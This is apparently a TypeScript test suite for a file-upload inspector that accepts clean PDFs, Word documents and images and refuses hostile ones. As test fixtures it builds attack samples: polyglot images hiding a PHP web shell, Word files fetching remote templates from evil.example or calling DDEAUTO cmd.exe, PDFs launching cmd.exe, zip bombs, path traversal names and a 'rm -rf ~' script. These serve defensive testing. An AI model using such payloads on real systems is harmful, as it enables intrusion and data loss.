import fc from 'fast-check';
import { randomBytes } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { fileNameFor } from '#resources/files/file-name.ts';
import { inspect, largestFile } from '#resources/files/inspect.ts';
import { kindAndSize, sizeInWords } from '#resources/files/kinds.ts';
import { refusalInWords, type FileRefusal } from '#resources/files/refusals.ts';
import { docx, packed, pdf, photoWithPlace, picture, relation, text, zip } from '../support/attack-files.ts';

const kept = async (file: Buffer) => {
  const { data, error } = await inspect(file);
  if (!data) throw new Error(`refused: ${error}`);
  return data;
};

describe('what staff have is taken', () => {
  test('a PDF and a Word document stay as they are, to the byte', async () => {
    for (const [file, type] of [
      [pdf(), 'application/pdf'],
      [docx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ] as const) {
      expect(await kept(file)).toMatchObject({ type, bytes: file, width: null, height: null });
    }
  });

  test('a PDF with a form, links, a page it opens at and its objects packed', async () => {
    const links = '4 0 obj\n<< /S /URI /URI (https://example.org) >>\nendobj\n';
    const file = pdf(
      links + packed('10 0 << /Type /Page >>'),
      '/AcroForm << /Fields [] >> /OpenAction [3 0 R /Fit]',
    );
    expect((await kept(file)).type).toBe('application/pdf');
  });

  test('a Word document with links that a reader presses', async () => {
    const file = docx({
      'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.org/a?b=1&amp;c=2'),
    });
    expect((await kept(file)).bytes).toEqual(file);
  });

  test.each(['jpeg', 'png', 'webp'] as const)('a picture as %s keeps its kind and size', async (format) => {
    const file = await picture().toFormat(format).toBuffer();
    expect(await kept(file)).toMatchObject({ type: `image/${format}`, width: 60, height: 40 });
  });

  test('the sha256 is that of what is kept', async () => {
    const { bytes, sha256 } = await kept(await picture().png().toBuffer());
    const digest = await crypto.subtle.digest('SHA-256', new Uint8Array(bytes));
    expect(sha256).toBe(Buffer.from(digest).toString('hex'));
  });
});

describe('a picture is drawn anew', () => {
  test('the place, the camera and the comment are gone, and it stands upright', async () => {
    const photo = await photoWithPlace();
    const before = await sharp(photo).metadata();
    expect(before.exif?.includes('Secretphone'), 'the photo of this test carries what is to go').toBe(true);
    expect([before.width, before.height, before.orientation]).toEqual([60, 40, 6]);

    const { bytes, width, height } = await kept(photo);
    const after = await sharp(bytes).metadata();
    expect([width, height, after.width, after.height]).toEqual([40, 60, 40, 60]);
    expect([after.exif, after.xmp, after.iptc, after.icc, after.comments, after.orientation]).toEqual(
      Array(6).fill(undefined),
    );
    expect(bytes.includes('Secretphone')).toBe(false);
    // turned by a quarter, the red half is above the white one
    const [red] = await sharp(bytes).extract({ left: 20, top: 10, width: 1, height: 1 }).raw().toBuffer();
    const [, white] = await sharp(bytes).extract({ left: 20, top: 50, width: 1, height: 1 }).raw().toBuffer();
    expect(red).toBeLessThan(200);
    expect(white).toBeGreaterThan(240);
  });

  test('words in a PNG go as well', async () => {
    const file = await picture()
      .png()
      .withExif({ IFD0: { Copyright: 'Jamie R.' } })
      .toBuffer();
    expect(file.includes('Jamie')).toBe(true);
    expect((await kept(file)).bytes.includes('Jamie')).toBe(false);
  });

  test('a large one is brought to 2400 pixels, a small one stays', async () => {
    expect(await kept(await picture(4000, 3000).jpeg().toBuffer())).toMatchObject({
      width: 2400,
      height: 1800,
    });
  });

  test.each([
    ['a page behind it', '<html><script>alert(1)</script></html>'],
    ['a ZIP behind it', docx().toString('latin1')],
    ['a PDF behind it', pdf('', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>').toString('latin1')],
    ['PHP behind it', '<?php system($_GET[0]); ?>'],
  ])('a picture with %s comes out as the picture alone', async (_, behind) => {
    for (const format of ['jpeg', 'png', 'webp'] as const) {
      const polyglot = Buffer.concat([
        await picture().toFormat(format).toBuffer(),
        Buffer.from(behind, 'latin1'),
      ]);
      const { bytes, type } = await kept(polyglot);
      expect(type).toBe(`image/${format}`);
      for (const word of ['script', 'PK\u0003\u0004', '%PDF', '<?php'])
        expect(bytes.includes(word)).toBe(false);
    }
  });

  test('a comment inside a JPEG that is a page goes', async () => {
    const jpeg = await picture().jpeg().toBuffer();
    const words = Buffer.from('*/<script src=//evil.example></script>');
    const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, words.length + 2]), words]);
    const { bytes } = await kept(Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]));
    expect(bytes.includes('script')).toBe(false);
  });
});

/** A PNG that says it is so large, and holds next to nothing. */
function pngBomb(width: number, height: number): Buffer {
  const chunk = (name: string, content: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(content.length);
    return Buffer.concat([length, Buffer.from(name), content, Buffer.alloc(4)]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const crc = (bytes: Buffer) => {
    let value = 0xffffffff;
    for (const byte of bytes) {
      value ^= byte;
      for (let bit = 0; bit < 8; bit++) value = value & 1 ? (value >>> 1) ^ 0xedb88320 : value >>> 1;
    }
    return (value ^ 0xffffffff) >>> 0;
  };
  const first = chunk('IHDR', header);
  first.writeUInt32BE(crc(first.subarray(4, 21)), 21);
  return Buffer.concat([signature, first, chunk('IDAT', Buffer.alloc(8)), chunk('IEND', Buffer.alloc(0))]);
}

const moving = (format: 'gif' | 'webp') =>
  sharp(randomBytes(10 * 20 * 3), { raw: { width: 10, height: 20, channels: 3, pageHeight: 10 } })
    .toFormat(format)
    .toBuffer();

/** The same bytes with a number of four of them written over wherever a signature stands. */
function lying(file: Buffer, signature: number, offset: number, value: number): Buffer {
  const copy = Buffer.from(file);
  for (let at = 0; at + 4 <= copy.length; at++) {
    if (copy.readUInt32LE(at) === signature) copy.writeUInt32LE(value, at + offset);
  }
  return copy;
}

const zeros = (megabytes: number) => new Uint8Array(megabytes * 1024 * 1024);
const field = (words: string) =>
  text(`<w:p><w:r><w:instrText xml:space="preserve">${words}</w:instrText></w:r></w:p>`);

const refused: [string, FileRefusal, () => Buffer | Promise<Buffer>][] = [
  ['nothing at all', 'empty', () => Buffer.alloc(0)],
  ['one byte too many', 'too-large', () => Buffer.alloc(largestFile + 1, pdf())],
  ['one null byte', 'other', () => Buffer.alloc(1)],
  ['plain words', 'other', () => Buffer.from('Dear all,')],
  [
    'an SVG with a script',
    'svg',
    () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  ],
  [
    'an SVG behind an XML head and a comment',
    'svg',
    () => Buffer.from('<?xml version="1.0"?><!-- x --><svg onload="alert(1)"/>'),
  ],
  ['an SVG behind blanks', 'svg', () => Buffer.from(`${' \n'.repeat(300)}<SVG onload=alert(1)>`)],
  ['a page', 'web-page', () => Buffer.from('<!doctype html><title>x</title><script>alert(1)</script>')],
  [
    'a page that begins with a comment',
    'web-page',
    () => Buffer.from('<!-- GIF89a --><html><script>1</script>'),
  ],
  ['a program for Windows', 'program', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
  [
    'a program for Linux',
    'program',
    () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(200)]),
  ],
  ['a script for a shell', 'program', () => Buffer.from('#!/bin/sh\nrm -rf ~\n')],
  ['a GIF with a script in it', 'moving', () => Buffer.from('GIF89a/*\u0000*/=1;alert(1)')],
  ['a GIF that moves', 'moving', () => moving('gif')],
  ['a WebP that moves', 'moving', () => moving('webp')],
  [
    'a photo as HEIC',
    'heic',
    () =>
      Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic\0\0\0\0mif1heic'), Buffer.alloc(40)]),
  ],
  [
    'an old Word document, or a locked one',
    'old-word',
    () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)]),
  ],
  ['half a JPEG', 'broken', async () => (await picture(300, 300).jpeg().toBuffer()).subarray(0, 700)],
  ['a JPEG of three bytes', 'broken', () => Buffer.from([0xff, 0xd8, 0xff])],
  ['a PNG that says it has 900 million pixels', 'image-too-wide', () => pngBomb(30_000, 30_000)],
  ['a PNG without pixels', 'broken', () => pngBomb(100, 100)],

  ['a ZIP', 'zip', () => zip({ 'a.txt': 'a' })],
  ['an empty ZIP', 'zip', () => zip({})],
  ['two letters of a ZIP', 'broken', () => Buffer.from('PK')],
  ['a table of Excel', 'other', () => zip({ '[Content_Types].xml': '<a/>', 'xl/workbook.xml': '<a/>' })],
  ['a Word document with macros', 'word-macros', () => docx({ 'word/vbaProject.bin': 'x' })],
  [
    'one with macros of another name',
    'word-macros',
    () =>
      docx({
        '[Content_Types].xml':
          '<Types><Default ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>',
      }),
  ],
  ['one with ActiveX', 'word-macros', () => docx({ 'word/activeX/activeX1.xml': '<a/>' })],
  ['one with a program in it', 'word-macros', () => docx({ 'word/media/run.exe': 'MZ' })],
  ['one with a file in it', 'word-inside', () => docx({ 'word/embeddings/oleObject1.bin': 'x' })],
  ['one with a page in it', 'word-inside', () => docx({ 'word/afchunk1.htm': '<script>' })],
  ['one with a ZIP in it', 'word-inside', () => docx({ 'word/media/more.zip': zip({ a: zeros(1) }) })],
  [
    'one with a template from elsewhere',
    'word-fetches',
    () =>
      docx({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/t.dotm') }),
  ],
  [
    'one with a template on a share',
    'word-fetches',
    () =>
      docx({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', '\\\\evil.example\\t.dotm', '') }),
  ],
  [
    'one with a picture from elsewhere',
    'word-fetches',
    () => docx({ 'word/_rels/document.xml.rels': relation('image', 'https://evil.example/seen.png') }),
  ],
  [
    'one that hides it behind references',
    'word-fetches',
    () =>
      docx({
        'word/_rels/document.xml.rels': relation(
          'image',
          '&#104;ttps://evil.example/',
          ' TargetMode="&#x45;xternal"',
        ),
      }),
  ],
  [
    'one that hides it behind other quotes',
    'word-fetches',
    () => docx({ 'word/_rels/document.xml.rels': relation('image', 'x', " TargetMode='External'") }),
  ],
  [
    'one whose link runs a program',
    'word-fetches',
    () => docx({ 'word/_rels/document.xml.rels': relation('hyperlink', 'ms-msdt:/id') }),
  ],
  [
    'one whose link is a script',
    'word-fetches',
    () => docx({ 'word/_rels/document.xml.rels': relation('hyperlink', 'java\tscript:alert(1)') }),
  ],
  [
    'one that asks another program',
    'word-fetches',
    () => docx({ 'word/document.xml': field('DDEAUTO c:\\\\windows\\\\cmd.exe') }),
  ],
  [
    'one that asks in pieces',
    'word-fetches',
    () => docx({ 'word/document.xml': field('DD</w:instrText></w:r><w:r><w:instrText>EAUTO x') }),
  ],
  [
    'one with entities',
    'broken',
    () => docx({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
  ],
  ['one in another encoding', 'broken', () => docx({ 'word/document.xml': Buffer.from('<a/>', 'utf16le') })],
  [
    'one whose links are behind a comment',
    'broken',
    () => docx({ 'word/_rels/document.xml.rels': '<!-- --><Relationships/>' }),
  ],
  ['one that leads out of its folder', 'broken', () => docx({ '../../evil.xml': '<a/>' })],
  ['one with an absolute path', 'broken', () => docx({ '/etc/passwd': 'x' })],
  ['one with a path of Windows', 'broken', () => docx({ 'c:\\evil.xml': '<a/>' })],
  ['one with a null byte in a name', 'broken', () => docx({ 'word/a\u0000.xml': '<a/>' })],
  ['one with a part named twice', 'broken', () => docx({ 'WORD/document.xml': '<a/>' })],
  ['one with words behind its end', 'broken', () => Buffer.concat([docx(), Buffer.from('<html>')])],
  ['one with words before its beginning', 'web-page', () => Buffer.concat([Buffer.from('<html>'), docx()])],
  ['one cut in half', 'broken', () => docx().subarray(0, 300)],
  ['a bomb', 'bomb', () => docx({ 'word/media/a.bin': zeros(30) })],
  [
    'a bomb of many parts',
    'bomb',
    () => docx(Object.fromEntries([1, 2, 3, 4].map((part) => [`word/media/${part}.bin`, zeros(20)]))),
  ],
  [
    'a bomb that says it is small',
    'broken',
    () => lying(docx({ 'word/media/a.bin': zeros(30) }), 0x02014b50, 24, 900),
  ],
  ['one with a part that says it is smaller', 'broken', () => lying(docx(), 0x02014b50, 24, 10)],
  ['one whose parts are one and the same place', 'broken', () => lying(docx(), 0x02014b50, 42, 0)],

  ['a PDF that only begins as one', 'broken', () => Buffer.from('%PDF-1.7 hello')],
  ['a PDF behind other words', 'web-page', () => Buffer.concat([Buffer.from('<script>'), pdf()])],
  [
    'a PDF with a page behind it',
    'broken',
    () => Buffer.concat([pdf(), Buffer.from('<script>alert(1)</script>')]),
  ],
  ['a PDF with a program', 'pdf-acts', () => pdf('', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
  [
    'a PDF that writes it otherwise',
    'pdf-acts',
    () => pdf('', '/OpenAction << /S /J#61vaScr#69pt /#4aS (1) >>'),
  ],
  ['a PDF that has it in packed objects', 'pdf-acts', () => pdf(packed('5 0 << /S /JavaScript /JS (1) >>'))],
  ['a PDF that starts a program', 'pdf-acts', () => pdf('4 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n')],
  [
    'a PDF that sends its form',
    'pdf-acts',
    () => pdf('4 0 obj\n<</S/SubmitForm/F(https://evil.example)>>\nendobj\n'),
  ],
  ['a PDF with a file in it', 'pdf-inside', () => pdf('4 0 obj\n<</Type/EmbeddedFile>>\nendobj\n')],
  [
    'a PDF that is locked',
    'pdf-locked',
    () => pdf('4 0 obj\n<< >>\nendobj\ntrailer\n<< /Encrypt 5 0 R >>\n'),
  ],
];

describe('what could do harm, or is of no use, is refused', () => {
  test.each(refused)('%s: %s', async (_, reason, file) => {
    expect(await inspect(await file())).toEqual({ data: null, error: reason });
  });

  test('each reason has a sentence of its own that ends without a full stop', () => {
    const sentences = Object.values(refusalInWords);
    expect(new Set(sentences).size).toBe(sentences.length);
    for (const sentence of sentences) expect(sentence).toMatch(/^[A-Z].+[^.]$/);
  });

  test('a bomb costs neither seconds nor memory', async () => {
    const packedZeros = deflateRawSync(zeros(200), { level: 9 });
    const bomb = lying(docx({ 'word/media/a.bin': packedZeros }), 0x02014b50, 24, 1000);
    const before = performance.now();
    expect((await inspect(bomb)).data).toBeNull();
    expect(performance.now() - before).toBeLessThan(2000);
  });

  test('random bytes never pass and never throw', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 3000 }), async (bytes) => {
        expect((await inspect(Buffer.from(bytes))).data).toBeNull();
      }),
      { numRuns: 300 },
    );
  });

  test('random bytes behind the signature of each kind never pass and never throw', async () => {
    const signatures = [
      '%PDF-1.7\n',
      'PK\u0003\u0004',
      '\u0089PNG\r\n\u001a\n',
      '\u00ff\u00d8\u00ff\u00e0',
      'RIFF\u0010\u0000\u0000\u0000WEBPVP8 ',
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...signatures),
        fc.uint8Array({ maxLength: 3000 }),
        async (signature, bytes) => {
          const file = Buffer.concat([Buffer.from(signature, 'latin1'), Buffer.from(bytes)]);
          expect((await inspect(file)).data).toBeNull();
        },
      ),
      { numRuns: 300 },
    );
  });

  test('a good file with some bytes changed is taken or refused, and never throws', async () => {
    const files = [docx(), pdf(), await picture().png().toBuffer(), await picture().webp().toBuffer()];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...files),
        fc.array(fc.tuple(fc.nat(), fc.nat(255)), { minLength: 1, maxLength: 6 }),
        async (file, changes) => {
          const copy = Buffer.from(file);
          for (const [at, byte] of changes) copy[at % copy.length] = byte;
          const { data, error } = await inspect(copy);
          expect(data === null).toBe(error !== null);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('the name a file is saved under', () => {
  const name = /^[A-Za-z0-9][A-Za-z0-9._-]*\.(pdf|docx|png|jpg|webp)$/;

  test.each([
    ['Packing list for week one', 'x.exe', 'packing-list-for-week-one.pdf'],
    ['???', 'My List.docx.pdf', 'my-list-docx.pdf'],
    ['', 'photo.jpg.exe', 'photo-jpg.pdf'],
    ['', 'invoice\u202efdp.exe', 'invoice-fdp.pdf'],
    ['', '../../etc/passwd', 'file.pdf'],
    ['', 'a\u0000.html', 'a.pdf'],
    ['', '', 'file.pdf'],
    ['Lista de búsqueda', '', 'lista-de-busqueda.pdf'],
  ])('“%s” from “%s” is %s', (label, given, expected) => {
    expect(fileNameFor(label, given, 'application/pdf')).toBe(expected);
  });

  test('it is always one that the database takes', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 300 }),
        fc.string({ maxLength: 5000 }),
        (label, given) => {
          const made = fileNameFor(label, given, 'image/jpeg');
          expect(made).toMatch(name);
          expect(made.length).toBeLessThanOrEqual(80);
        },
      ),
    );
  });
});

test('sizes are told as phones tell them', () => {
  const sizes = [0, 640, 1000, 239_600, 999_400, 999_600, 1_310_000];
  expect(sizes.map((size) => sizeInWords(size))).toEqual([
    '0 bytes',
    '640 bytes',
    '1 kB',
    '240 kB',
    '999 kB',
    '1.0 MB',
    '1.3 MB',
  ]);
  expect(kindAndSize({ type: 'image/png', size: 1_310_000 }, 'es')).toBe('Imagen, 1,3 MB');
});

test.each(['stream\n', '/ObjStm stream\n', '/ObjStm stream\nendstream', '/', '/a#', 'obj ', '<svg', '\0'])(
  'as much of “%s” as a file may hold is looked at within a few seconds',
  async (word) => {
    const noise = Buffer.alloc(largestFile - 5000, word);
    for (const file of [Buffer.concat([pdf().subarray(0, 9), noise, pdf()]), noise]) {
      const before = performance.now();
      await inspect(file);
      expect(performance.now() - before).toBeLessThan(5000);
    }
  },
);
